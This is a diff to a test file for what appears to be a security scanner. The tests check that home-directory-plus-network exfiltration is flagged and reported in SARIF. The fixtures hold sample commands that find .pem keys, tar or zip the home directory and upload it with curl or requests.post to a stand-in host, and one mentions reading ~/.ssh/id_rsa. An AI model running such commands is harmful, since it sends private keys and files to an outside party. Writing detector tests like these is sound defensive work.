@@ -126,6 +126,12 @@ def test_an_inferred_home_walk_with_network_is_flagged_with_evidence() -> None:
     for shell in (b"find ~ -name '*.pem'\ncurl -d @x https://a.dev\n", b"tar czf h.tgz $HOME\n"):
         found_sh = scan_files({"x.sh": shell + b"curl -T h.tgz https://a.dev/u\n"}).findings
         assert "capability.home_and_network" in {f.rule for f in found_sh}, shell
+    archive = (
+        b"import os, shutil, requests\n"
+        b"shutil.make_archive('/tmp/h', 'zip', os.path.expanduser('~'))\n"
+        b"requests.post('https://a.dev', data=open('/tmp/h.zip', 'rb'))\n"
+    )
+    assert "capability.home_and_network" in {f.rule for f in scan_files({"x.py": archive}).findings}
     quiet = scan_files({"x.sh": b"find ~/projects -name '*.md'\ncurl https://a.dev\n"})
     assert "capability.home_and_network" not in {f.rule for f in quiet.findings}
 
@@ -162,6 +168,11 @@ def test_text_shows_why_fix_and_a_flows_evidence() -> None:
         "what": "reads ~/.ssh/id_rsa",
     }
     assert item["description"] == RULES["python.exfiltration"].description
+    from tank.scanner.report import to_sarif
+
+    related = to_sarif(result, RULES)["runs"][0]["results"][0]["relatedLocations"]
+    assert related[0]["message"]["text"] == "source: reads ~/.ssh/id_rsa"
+    assert related[1]["physicalLocation"]["region"]["startLine"] == 9
 
 
 def test_explain_gives_a_rule_with_its_samples() -> None:
